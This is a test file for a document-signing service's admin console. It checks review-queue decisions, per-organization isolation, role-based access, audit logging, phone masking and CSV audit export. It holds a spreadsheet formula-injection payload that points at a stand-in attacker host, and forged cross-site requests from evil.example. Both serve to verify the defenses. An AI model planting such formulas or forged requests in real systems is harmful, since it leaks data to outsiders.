import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Alongside } from '../src/db/transaction.js';
import { cancelProcesses } from '../src/documents/lifecycle/cancel-processes.js';
import { reactivateProcess } from '../src/documents/lifecycle/reactivate-process.js';
import { remindParticipant } from '../src/documents/lifecycle/remind-participant.js';
import { submitPhoto } from '../src/documents/participant/signer-flow.js';
import { unlockParticipant } from '../src/documents/participant/unlock-participant.js';
import { finishVeriface, submitDocumentPhoto, submitFacePhoto } from '../src/veriface/person-flow.js';
import { reviewVeriface } from '../src/veriface/review-veriface.js';
import { CONSOLE_ORIGIN, consoleCall, signedInUser } from './support/console.js';
import { verifaceBody } from './support/fixtures.js';
import { jpeg, matcher } from './support/images.js';
import { call, dialects, startTestService, type TestOrganization, type TestService } from './support/service.js';
import { createProcess, endProcess, identifiedSigner, outbox, pdfProcess, readAndSign, stored } from './support/signing.js';

interface QueueItem {
  kind: 'signer' | 'validation';
  code: string;
  name: string;
  reason: string;
  similarity?: number;
  band?: string;
  numberDeclared?: string;
  photos: string[];
  decisions: string[];
  attempts: unknown[];
}

describe.each(dialects)("the console's review queue (%s)", (dialect) => {
  let svc: TestService;
  /** Each organization's admin's, reviewer's and sender's sessions. */
  const sessions = new Map<string, { admin: string; reviewer: string; sender: string }>();
  const admin = (org: TestOrganization) => sessions.get(org.id)?.admin ?? '';
  const reviewer = (org: TestOrganization) => sessions.get(org.id)?.reviewer ?? '';
  const sender = (org: TestOrganization) => sessions.get(org.id)?.sender ?? '';

  beforeAll(async () => {
    svc = await startTestService(dialect);
    for (const [org, domain] of [
      [svc.orgA, 'acme'],
      [svc.orgB, 'globex'],
    ] as const) {
      await call(svc.app, 'POST', '/webhooks', { key: org.privateKey, body: { name: 'default', url: `https://hooks.example.test/${domain}` } });
      sessions.set(org.id, {
        admin: await signedInUser(svc, org, `admin@${domain}.test`, 'admin', '198.51.100.20'),
        reviewer: await signedInUser(svc, org, `reviewer@${domain}.test`, 'reviewer', '198.51.100.20'),
        sender: await signedInUser(svc, org, `sender@${domain}.test`, 'sender', '198.51.100.20'),
      });
    }
  });
  afterAll(async () => svc.close());

  /** A face validation of `org` whose face photo the matcher found alike but perhaps printed: BLOCKED for a person, LIVENESS_SUSPECT. */
  async function blockedValidation(org: TestOrganization, name = 'Juan Pérez'): Promise<string> {
    const created = await call(svc.app, 'POST', '/veriface', { key: org.privateKey, body: verifaceBody(org.email, { platform: 'web', name }) });
    expect(created.statusCode, created.body).toBe(200);
    const { code } = created.json();
    const { link_token: token } = await svc.deps.db.selectFrom('veriface_processes').select('link_token').where('code', '=', code).executeTakeFirstOrThrow();
    await submitDocumentPhoto(svc.deps, { token, side: 'front', image: jpeg() });
    await submitFacePhoto(svc.deps, { token, image: jpeg() });
    const suspect = matcher({ similarity: 82, matches: true, liveness: { score: 0.2, suspect: true } });
    await finishVeriface({ ...svc.deps, faceMatcher: suspect }, { token });
    return code;
  }

  /** A signer of `org` whose photos no machine could decide on: blocked, MANUAL_REVIEW_REQUIRED; answers their queue code. */
  async function blockedSigner(org: TestOrganization): Promise<{ queueCode: string; processCode: string }> {
    const { code, token } = await identifiedSigner(svc, org);
    await submitPhoto(svc.deps, { token, kind: 'documentFront', image: jpeg() });
    await submitPhoto(svc.deps, { token, kind: 'face', image: jpeg() }).catch((error: unknown) => {
      if (!(error instanceof Error && error.message === 'PARTICIPANT_BLOCKED')) throw error;
    });
    const { participants } = await stored(svc, org, code);
    expect(participants[0]?.status).toBe('BLOCK');
    return { queueCode: `${code}${participants[0]?.participant_id}`, processCode: code };
  }

  const queue = async (cookie: string): Promise<QueueItem[]> => {
    const res = await consoleCall(svc, 'GET', '/console/api/review', { cookie });
    expect(res.statusCode, res.body).toBe(200);
    return res.json().data;
  };
  const photo = (cookie: string, query: Record<string, string>) => consoleCall(svc, 'GET', '/console/api/review/photo', { cookie, query });
  const decide = (cookie: string, body: Record<string, unknown>, headers?: Record<string, string>) =>
    consoleCall(svc, 'POST', '/console/api/review/decide', { cookie, body, ...(headers ? { headers } : {}) });
  const verifaceStatus = async (code: string) =>
    (await svc.deps.db.selectFrom('veriface_processes').select('status').where('code', '=', code).executeTakeFirstOrThrow()).status;
  const webhookEvents = async (org: TestOrganization) =>
    (await outbox(svc, 'webhook'))
      .filter((row) => row.organization_id === org.id)
      .map((row) => row.body.event as { type: string; data: Record<string, unknown> });
  const audit = async (org: TestOrganization) =>
    (await svc.deps.db.selectFrom('console_audit').selectAll().where('organization_id', '=', org.id).where('action', '=', 'REVIEW_DECIDED').execute()).map(
      (row) => ({
        email: row.email,
        detail: JSON.parse(row.detail ?? '{}'),
      }),
    );

  describe('blocked signers and face validations, newest first, with the similarity band, the numbers, the reasons and attempts', () => {
    it("an organization's session sees its own queue, never another's", async () => {
      const validation = await blockedValidation(svc.orgA);
      const { queueCode } = await blockedSigner(svc.orgA);
      const ofB = await blockedValidation(svc.orgB);
      const items = await queue(reviewer(svc.orgA));
      const codes = items.map((item) => item.code);
      expect(codes.indexOf(queueCode)).toBeLessThan(codes.indexOf(validation));
      expect(codes).not.toContain(ofB);
      expect(items.find((item) => item.code === validation)).toMatchObject({
        kind: 'validation',
        name: 'Juan Pérez',
        reason: 'LIVENESS_SUSPECT',
        similarity: 82,
        band: 'high',
        numberDeclared: '1001001010',
        photos: ['documentFront', 'face'],
        decisions: ['approve', 'reject'],
      });
      expect(items.find((item) => item.code === queueCode)).toMatchObject({
        kind: 'signer',
        reason: 'MANUAL_REVIEW_REQUIRED',
        numberDeclared: '1001001010',
        photos: ['documentFront', 'face'],
        decisions: ['approve', 'reject', 'reset'],
      });
      expect((await queue(admin(svc.orgB))).map((item) => item.code)).toEqual([ofB]);
    });
  });

  describe('photos reach the console only through the session, never cached, never another organization', () => {
    it("the face and the document are served to the organization's session with Cache-Control: no-store", async () => {
      const code = await blockedValidation(svc.orgA);
      const { queueCode } = await blockedSigner(svc.orgA);
      for (const query of [
        { kind: 'validation', code, photo: 'face' },
        { kind: 'validation', code, photo: 'documentFront' },
        { kind: 'signer', code: queueCode, photo: 'face' },
      ]) {
        const res = await photo(reviewer(svc.orgA), query);
        expect(res.statusCode, res.body).toBe(200);
        expect(res.headers['content-type']).toBe('image/jpeg');
        expect(res.headers['cache-control']).toBe('no-store');
        expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xff, 0xd8, 0xff]));
      }
      expect((await photo(reviewer(svc.orgA), { kind: 'validation', code, photo: 'documentBack' })).json()).toEqual({ message: 'FILE_NOT_FOUND' });
    });

    it("another organization's session, no session, or a key get nothing", async () => {
      const code = await blockedValidation(svc.orgA);
      const { queueCode } = await blockedSigner(svc.orgA);
      for (const query of [
        { kind: 'validation', code, photo: 'face' },
        { kind: 'signer', code: queueCode, photo: 'face' },
      ]) {
        const fromB = await photo(admin(svc.orgB), query);
        expect([fromB.statusCode, fromB.json()]).toEqual([404, { message: 'REVIEW_NOT_FOUND' }]);
        expect((await photo('', query)).statusCode).toBe(401);
        const withKey = await svc.app.inject({ method: 'GET', url: '/console/api/review/photo', query, headers: { authorization: svc.orgA.privateKey } });
        expect(withKey.statusCode).toBe(401);
      }
    });
  });

  describe('approve, reject or reset with a reason, through the API’s own decisions, recorded with who decided', () => {
    it('approving a validation makes it VALIDATED by the user, sends veriface.validated, and leaves the queue and its photos', async () => {
      const code = await blockedValidation(svc.orgA);
      const res = await decide(reviewer(svc.orgA), { kind: 'validation', code, decision: 'approve', reason: 'Checked the ID in person' });
      expect([res.statusCode, res.json()]).toEqual([200, { decided: true }]);
      expect(await verifaceStatus(code)).toBe('VALIDATED');
      const validated = (await webhookEvents(svc.orgA)).find((e) => e.type === 'veriface.validated' && e.data.code === code);
      expect(validated?.data).toMatchObject({ emailValidated: 'reviewer@acme.test', reason: 'Checked the ID in person' });
      expect(await audit(svc.orgA)).toContainEqual({
        email: 'reviewer@acme.test',
        detail: { kind: 'validation', code, decision: 'approve', reason: 'Checked the ID in person' },
      });
      expect((await queue(admin(svc.orgA))).map((item) => item.code)).not.toContain(code);
      expect((await photo(admin(svc.orgA), { kind: 'validation', code, photo: 'face' })).statusCode).toBe(404);
      // Decided once: a second decision changes nothing.
      expect((await decide(admin(svc.orgA), { kind: 'validation', code, decision: 'reject', reason: 'Again' })).json()).toEqual({
        message: 'VERIFACE_NOT_BLOCKED',
      });
      expect(await verifaceStatus(code)).toBe('VALIDATED');
    });

    it('a signer is unlocked as POST /document/unlock does: reset sends document.signer_unlocked, reject rejects the process', async () => {
      const first = await blockedSigner(svc.orgA);
      expect((await decide(admin(svc.orgA), { kind: 'signer', code: first.queueCode, decision: 'reset', reason: 'Blurry photo, try again' })).statusCode).toBe(
        200,
      );
      expect((await stored(svc, svc.orgA, first.processCode)).participants[0]).toMatchObject({ status: 'NOTIFICATION', camera_failures: 0, face_key: null });
      expect((await webhookEvents(svc.orgA)).map((e) => e.type)).toContain('document.signer_unlocked');
      const second = await blockedSigner(svc.orgA);
      expect((await decide(reviewer(svc.orgA), { kind: 'signer', code: second.queueCode, decision: 'reject', reason: 'Not the same person' })).statusCode).toBe(
        200,
      );
      expect((await stored(svc, svc.orgA, second.processCode)).process).toMatchObject({ status: 'REJECTED' });
      expect(await audit(svc.orgA)).toContainEqual({
        email: 'reviewer@acme.test',
        detail: { kind: 'signer', code: second.queueCode, decision: 'reject', reason: 'Not the same person' },
      });
    });

    it('the reason is required; a validation cannot be reset', async () => {
      const code = await blockedValidation(svc.orgA);
      expect((await decide(admin(svc.orgA), { kind: 'validation', code, decision: 'approve' })).json()).toEqual({ message: '"reason" is required' });
      expect((await decide(admin(svc.orgA), { kind: 'validation', code, decision: 'approve', reason: '  ' })).statusCode).toBe(400);
      expect((await decide(admin(svc.orgA), { kind: 'validation', code, decision: 'reset', reason: 'x' })).json()).toEqual({
        message: '"decision" must be one of [approve, reject]',
      });
      expect(await verifaceStatus(code)).toBe('BLOCKED');
    });

    it("another organization's session cannot decide the queue, and a forged cross-site POST changes nothing", async () => {
      const code = await blockedValidation(svc.orgA);
      const { queueCode, processCode } = await blockedSigner(svc.orgA);
      expect((await decide(admin(svc.orgB), { kind: 'validation', code, decision: 'approve', reason: 'Mine now' })).json()).toEqual({
        message: 'VERIFACE_NOT_FOUND',
      });
      expect((await decide(admin(svc.orgB), { kind: 'signer', code: queueCode, decision: 'approve', reason: 'Mine now' })).json()).toEqual({
        message: 'DOCUMENT_NOT_FOUND',
      });
      for (const headers of [
        { origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' },
        { origin: CONSOLE_ORIGIN, 'sec-fetch-site': 'same-site' },
      ]) {
        const forged = await decide(admin(svc.orgA), { kind: 'validation', code, decision: 'approve', reason: 'Forged' }, headers);
        expect([forged.statusCode, forged.json()]).toEqual([403, { message: 'CONSOLE_ORIGIN_REFUSED' }]);
      }
      expect(await verifaceStatus(code)).toBe('BLOCKED');
      expect((await stored(svc, svc.orgA, processCode)).participants[0]?.status).toBe('BLOCK');
      expect((await audit(svc.orgA)).map((entry) => entry.detail.code)).not.toContain(code);
    });

    it('a decision and its audit row are one transaction: when the row cannot be written, nothing is decided and no webhook goes out', async () => {
      const code = await blockedValidation(svc.orgA);
      const { queueCode, processCode } = await blockedSigner(svc.orgA);
      const webhooksBefore = (await outbox(svc, 'webhook')).length;
      const refused: Alongside = async () => {
        throw new Error('the audit row could not be written');
      };
      const email = 'admin@acme.test';
      await expect(
        reviewVeriface(svc.deps, { organizationId: svc.orgA.id, input: { code, decision: 'approve', email, reason: 'Looks fine' }, alongside: refused }),
      ).rejects.toThrow('the audit row could not be written');
      await expect(
        unlockParticipant(svc.deps, { organizationId: svc.orgA.id, input: { code: queueCode, email, status: 'approve' }, alongside: refused }),
      ).rejects.toThrow('the audit row could not be written');
      expect(await verifaceStatus(code)).toBe('BLOCKED');
      expect((await stored(svc, svc.orgA, processCode)).participants[0]?.status).toBe('BLOCK');
      expect(await outbox(svc, 'webhook')).toHaveLength(webhooksBefore);
    });
  });

  /** The organization's audit rows of one action, oldest first, with their detail read. */
  const auditOf = async (org: TestOrganization, action: string) =>
    (
      await svc.deps.db
        .selectFrom('console_audit')
        .selectAll()
        .where('organization_id', '=', org.id)
        .where('action', '=', action)
        .orderBy('created_at')
        .orderBy('id')
        .execute()
    ).map((row) => ({ email: row.email, detail: JSON.parse(row.detail ?? '{}') }));
  /** A process of `org` whose one signer has a phone: its code and the signer's id. */
  const processWithPhone = async (org: TestOrganization): Promise<{ code: string; participant: string }> => {
    const signProfile = [{ name: 'Lucía Gómez', email: 'lucia@people.test', phone: '+573001234567' }];
    const code = await createProcess(svc, org, '/document/upload', pdfProcess(org, { signProfile }));
    return { code, participant: (await stored(svc, org, code)).participants[0]?.participant_id ?? '' };
  };
  const processDetail = (cookie: string, code: string) => consoleCall(svc, 'GET', '/console/api/process', { cookie, query: { code } });

  describe('who may view identity data is a role of its own: reviewers and admins may, senders may not', () => {
    it('a sender is refused the queue, the photos and the decisions with 403 CONSOLE_REVIEWER_REQUIRED, each refusal recorded; a reviewer and an admin are served', async () => {
      const code = await blockedValidation(svc.orgA);
      const { queueCode } = await blockedSigner(svc.orgA);
      const refusedBefore = (await auditOf(svc.orgA, 'REVIEWER_REQUIRED')).length;
      const refused = [
        await consoleCall(svc, 'GET', '/console/api/review', { cookie: sender(svc.orgA) }),
        await photo(sender(svc.orgA), { kind: 'validation', code, photo: 'face' }),
        await photo(sender(svc.orgA), { kind: 'signer', code: queueCode, photo: 'documentFront' }),
        await decide(sender(svc.orgA), { kind: 'validation', code, decision: 'approve', reason: 'Looks fine' }),
      ];
      for (const res of refused) expect([res.statusCode, res.json()]).toEqual([403, { message: 'CONSOLE_REVIEWER_REQUIRED' }]);
      expect(await verifaceStatus(code)).toBe('BLOCKED');
      const refusals = (await auditOf(svc.orgA, 'REVIEWER_REQUIRED')).slice(refusedBefore);
      expect(refusals.map((row) => [row.email, row.detail.route])).toEqual([
        ['sender@acme.test', 'GET /console/api/review'],
        ['sender@acme.test', 'GET /console/api/review/photo'],
        ['sender@acme.test', 'GET /console/api/review/photo'],
        ['sender@acme.test', 'POST /console/api/review/decide'],
      ]);
      expect(await auditOf(svc.orgB, 'REVIEWER_REQUIRED')).toEqual([]);
      for (const cookie of [reviewer(svc.orgA), admin(svc.orgA)]) {
        expect((await queue(cookie)).map((item) => item.code)).toContain(code);
        expect((await photo(cookie, { kind: 'validation', code, photo: 'face' })).statusCode).toBe(200);
      }
      expect((await decide(reviewer(svc.orgA), { kind: 'validation', code, decision: 'reject', reason: 'Not the same person' })).json()).toEqual({
        decided: true,
      });
      expect(await verifaceStatus(code)).toBe('INVALIDATED');
    });

    it("a sender reads a process's phones masked to their last two digits, and no audit row is written; a reviewer reads them whole", async () => {
      const { code } = await processWithPhone(svc.orgA);
      const before = (await auditOf(svc.orgA, 'IDENTITY_VIEWED')).length;
      const seen = await processDetail(sender(svc.orgA), code);
      expect(seen.statusCode, seen.body).toBe(200);
      expect(seen.body).not.toContain('3001234567');
      expect(seen.json().process.signProfile[0].phone).toBe('+••••••••••67');
      expect(seen.json().roadmap.participants[0].phone).toBe('+••••••••••67');
      expect(await auditOf(svc.orgA, 'IDENTITY_VIEWED')).toHaveLength(before);
      const whole = await processDetail(reviewer(svc.orgA), code);
      expect(whole.json().process.signProfile[0].phone).toBe('+573001234567');
      expect((await processDetail(admin(svc.orgB), code)).json()).toEqual({ message: 'DOCUMENT_NOT_FOUND' });
    });
  });

  describe('every view of a photo, an ID number or a phone is an audit entry: who, when, which process, which photo or field', () => {
    it('each photo served adds a PHOTO_VIEWED row naming the user, the process, the person and the photo; a refused view adds none', async () => {
      const code = await blockedValidation(svc.orgA);
      const { queueCode, processCode } = await blockedSigner(svc.orgA);
      const before = (await auditOf(svc.orgA, 'PHOTO_VIEWED')).length;
      svc.clock.advance(1000);
      const at = svc.clock.now().toISOString();
      expect((await photo(reviewer(svc.orgA), { kind: 'validation', code, photo: 'face' })).statusCode).toBe(200);
      expect((await photo(admin(svc.orgA), { kind: 'signer', code: queueCode, photo: 'documentFront' })).statusCode).toBe(200);
      expect((await photo(admin(svc.orgB), { kind: 'validation', code, photo: 'face' })).statusCode).toBe(404);
      expect((await photo(sender(svc.orgA), { kind: 'validation', code, photo: 'documentFront' })).statusCode).toBe(403);
      const rows = await svc.deps.db
        .selectFrom('console_audit')
        .select(['email', 'detail', 'created_at', 'user_id'])
        .where('organization_id', '=', svc.orgA.id)
        .where('action', '=', 'PHOTO_VIEWED')
        .orderBy('id')
        .execute();
      const added = rows.slice(before);
      expect(added.map((row) => [row.email, row.created_at, row.user_id !== null, JSON.parse(row.detail ?? '{}')])).toEqual([
        ['reviewer@acme.test', at, true, { kind: 'validation', process: code, name: 'Juan Pérez', photo: 'face' }],
        [
          'admin@acme.test',
          at,
          true,
          { kind: 'signer', process: processCode, participant: queueCode.slice(processCode.length), name: 'Juan Pérez', photo: 'documentFront' },
        ],
      ]);
      expect(await auditOf(svc.orgB, 'PHOTO_VIEWED')).toEqual([]);
    });

    it('the queue adds an IDENTITY_VIEWED row for each item whose ID number it shows, and the process page one for each phone it shows whole', async () => {
      const code = await blockedValidation(svc.orgA);
      const ofB = await blockedValidation(svc.orgB);
      const before = (await auditOf(svc.orgA, 'IDENTITY_VIEWED')).length;
      const items = await queue(reviewer(svc.orgA));
      const shown = (await auditOf(svc.orgA, 'IDENTITY_VIEWED')).slice(before);
      expect(shown).toHaveLength(items.filter((item) => item.numberDeclared !== undefined).length);
      expect(shown).toContainEqual({ email: 'reviewer@acme.test', detail: { kind: 'validation', process: code, name: 'Juan Pérez', field: 'identification' } });
      expect(shown.map((row) => row.detail.process)).not.toContain(ofB);
      const { code: withPhone, participant } = await processWithPhone(svc.orgA);
      await processDetail(admin(svc.orgA), withPhone);
      expect((await auditOf(svc.orgA, 'IDENTITY_VIEWED')).at(-1)).toEqual({
        email: 'admin@acme.test',
        detail: { kind: 'signer', process: withPhone, participant, name: 'Lucía Gómez', field: 'phone' },
      });
      expect((await auditOf(svc.orgB, 'IDENTITY_VIEWED')).map((row) => row.detail.process)).not.toContain(withPhone);
    });
  });

  describe('webhook deliveries show phones and ID numbers masked: they are seen whole only where each view is recorded', () => {
    it("an admin reads a signer's webhook with their phone masked to its last two digits, and another organization's admin does not see it", async () => {
      const { code } = await processWithPhone(svc.orgA);
      const token = (await stored(svc, svc.orgA, code)).participants[0]?.link_token ?? '';
      await readAndSign(svc.deps, { token });
      const listed = await consoleCall(svc, 'GET', '/console/api/webhook-deliveries', { cookie: admin(svc.orgA), query: { limit: '100' } });
      expect(listed.statusCode, listed.body).toBe(200);
      const ofProcess = listed.json().data.filter((delivery: { body: unknown }) => JSON.stringify(delivery.body).includes(code));
      expect(ofProcess.length).toBeGreaterThan(0);
      expect(JSON.stringify(ofProcess)).toContain('+••••••••••67');
      expect(listed.body).not.toContain('3001234567');
      const ofB = await consoleCall(svc, 'GET', '/console/api/webhook-deliveries', { cookie: admin(svc.orgB), query: { limit: '100' } });
      expect(ofB.body).not.toContain(code);
    });
  });

  describe("the console's audit log exports as CSV with these entries, formula cells escaped, to the organization's admins only", () => {
    const exported = (cookie: string) => consoleCall(svc, 'GET', '/console/api/audit/csv', { cookie });

    it('the CSV holds each photo view with its user, process and photo, and a name like =HYPERLINK(...) comes out as text', async () => {
      const name = '=HYPERLINK("https://evil.example/?"&A1,"Juan")';
      const code = await blockedValidation(svc.orgA, name);
      expect((await photo(reviewer(svc.orgA), { kind: 'validation', code, photo: 'face' })).statusCode).toBe(200);
      const res = await exported(admin(svc.orgA));
      expect(res.statusCode, res.body).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toMatch(/^attachment; filename="console-audit-\d{4}-\d{2}-\d{2}\.csv"$/);
      expect(res.headers['cache-control']).toBe('no-store');
      const lines = res.body.split('\r\n');
      expect(lines[0]).toBe('at,action,email,address,process,participant,name,photo,field,detail');
      const line = lines.find((text) => text.includes('"PHOTO_VIEWED"') && text.includes(code));
      expect(line).toBe(
        `"${svc.clock.now().toISOString()}","PHOTO_VIEWED","reviewer@acme.test","127.0.0.1","${code}","","'=HYPERLINK(""https://evil.example/?""&A1,""Juan"")","face","","{""kind"":""validation""}"`,
      );
      expect(res.body).not.toMatch(/(^|,)"[=+\-@]/m);
    });

    it("another organization's admin exports none of them, and a sender or a reviewer is refused the export", async () => {
      const code = await blockedValidation(svc.orgA);
      expect((await photo(reviewer(svc.orgA), { kind: 'validation', code, photo: 'face' })).statusCode).toBe(200);
      const ofB = await exported(admin(svc.orgB));
      expect(ofB.statusCode).toBe(200);
      expect(ofB.body).not.toContain(code);
      expect(ofB.body).not.toContain('acme.test');
      expect(ofB.body).toContain('admin@globex.test');
      for (const cookie of [sender(svc.orgA), reviewer(svc.orgA)]) {
        const refused = await exported(cookie);
        expect([refused.statusCode, refused.json()]).toEqual([403, { message: 'CONSOLE_ADMIN_REQUIRED' }]);
      }
    });
  });
});

describe.each(dialects)("the console's process actions: cancel, remind, reactivate (%s)", (dialect) => {
  let svc: TestService;
  let senderA: string;
  let adminB: string;

  beforeAll(async () => {
    svc = await startTestService(dialect);
    await call(svc.app, 'POST', '/webhooks', { key: svc.orgA.privateKey, body: { name: 'default', url: 'https://hooks.example.test/acme' } });
  });
  // Fresh sessions for each test: a test that waits an hour for a reminder lets the others' go idle.
  beforeEach(async () => {
    senderA = await signedInUser(svc, svc.orgA, 'sender@acme.test', 'sender', '198.51.100.30');
    adminB = await signedInUser(svc, svc.orgB, 'admin@globex.test', 'admin', '198.51.100.30');
  });
  afterAll(async () => svc.close());

  const act = (cookie: string, action: string, body: Record<string, unknown>, headers?: Record<string, string>) =>
    consoleCall(svc, 'POST', `/console/api/process/${action}`, { cookie, body, ...(headers ? { headers } : {}) });
  const process = async (): Promise<{ code: string; participant: string }> => {
    const { code } = await identifiedSigner(svc, svc.orgA);
    const { participants } = await stored(svc, svc.orgA, code);
    return { code, participant: `${code}${participants[0]?.participant_id}` };
  };
  const actions = async () =>
    (await svc.deps.db.selectFrom('console_audit').select(['action', 'email', 'detail']).where('organization_id', '=', svc.orgA.id).execute()).filter(
      (row) => row.action.startsWith('PROCESS_') || row.action === 'PARTICIPANT_REMINDED',
    );

  it('a sender cancels with a reason, reminds, and reactivates, each as the API does it, each in the audit log', async () => {
    const { code, participant } = await process();
    // A person hears from the service at most once an hour; the session, used meanwhile, stays open.
    for (const _half of [1, 2]) {
      svc.clock.advance(31 * 60_000);
      expect((await consoleCall(svc, 'GET', '/console/api/me', { cookie: senderA })).statusCode).toBe(200);
    }
    expect((await act(senderA, 'remind', { code: participant })).json()).toEqual({ reminded: true });
    expect((await act(senderA, 'remind', { code: participant })).statusCode).toBe(429);
    expect((await act(senderA, 'cancel', { code, reason: 'The terms changed' })).json()).toEqual({ cancelled: true });
    expect((await stored(svc, svc.orgA, code)).process).toMatchObject({ status: 'CANCELLED', end_reason: 'The terms changed', ended_by: 'sender@acme.test' });
    expect((await act(senderA, 'cancel', { code, reason: 'Again' })).json()).toEqual({ message: 'DOCUMENT_NOT_IN_SIGNATURE' });
    expect((await act(senderA, 'reactivate', { code })).json()).toEqual({ message: 'PROCESS_NOT_REACTIVABLE: it is CANCELLED' });

    const rejected = await createProcess(
      svc,
      svc.orgA,
      '/document/upload',
      pdfProcess(svc.orgA, { signProfile: [{ name: 'Juan Pérez', email: 'juan@people.test' }] }),
    );
    await endProcess(svc, svc.orgA, rejected, 'REJECTED');
    expect((await act(senderA, 'reactivate', { code: rejected })).json()).toEqual({ notifications: 1, users: ['Juan Pérez'] });
    expect((await stored(svc, svc.orgA, rejected)).process.status).toBe('CREATED');

    const types = (await outbox(svc, 'webhook')).map((row) => (row.body.event as { type: string }).type);
    expect(types).toEqual(expect.arrayContaining(['document.cancelled']));
    expect((await actions()).map((row) => [row.action, row.email])).toEqual([
      ['PARTICIPANT_REMINDED', 'sender@acme.test'],
      ['PROCESS_CANCELLED', 'sender@acme.test'],
      ['PROCESS_REACTIVATED', 'sender@acme.test'],
    ]);
  });

  it('an action and its audit row are one transaction: when the row cannot be written, the process is left as it was and nobody is told', async () => {
    const { code, participant } = await process();
    // Past the hour a person waits between two messages, so the reminder would go out.
    svc.clock.advance(61 * 60_000);
    const refused: Alongside = async () => {
      throw new Error('the audit row could not be written');
    };
    const messagesBefore = (await outbox(svc, 'email')).length;
    const email = 'sender@acme.test';
    await expect(remindParticipant(svc.deps, { organizationId: svc.orgA.id, code: participant, alongside: refused })).rejects.toThrow('could not be written');
    await expect(
      cancelProcesses(svc.deps, { organizationId: svc.orgA.id, input: { codes: [code], message: 'Changed', email }, alongside: refused }),
    ).rejects.toThrow('could not be written');
    expect((await stored(svc, svc.orgA, code)).process.status).toBe('CREATED');
    await endProcess(svc, svc.orgA, code, 'REJECTED');
    await expect(reactivateProcess(svc.deps, { organizationId: svc.orgA.id, input: { code, email }, alongside: refused })).rejects.toThrow(
      'could not be written',
    );
    expect((await stored(svc, svc.orgA, code)).process.status).toBe('REJECTED');
    expect(await outbox(svc, 'email')).toHaveLength(messagesBefore);
  });

  it("another organization's session cannot act on the process, and a forged cross-site POST changes nothing", async () => {
    const before = (await actions()).length;
    const { code, participant } = await process();
    expect((await act(adminB, 'cancel', { code, reason: 'Mine now' })).json()).toEqual({ message: 'DOCUMENT_NOT_FOUND' });
    expect((await act(adminB, 'remind', { code: participant })).json()).toEqual({ message: 'DOCUMENT_NOT_FOUND' });
    expect((await act(adminB, 'reactivate', { code })).json()).toEqual({ message: 'PROCESS_NOT_FOUND' });
    const forged = await act(senderA, 'cancel', { code, reason: 'Forged' }, { origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' });
    expect([forged.statusCode, forged.json()]).toEqual([403, { message: 'CONSOLE_ORIGIN_REFUSED' }]);
    expect((await stored(svc, svc.orgA, code)).process.status).toBe('CREATED');
    expect(await actions()).toHaveLength(before);
  });
});
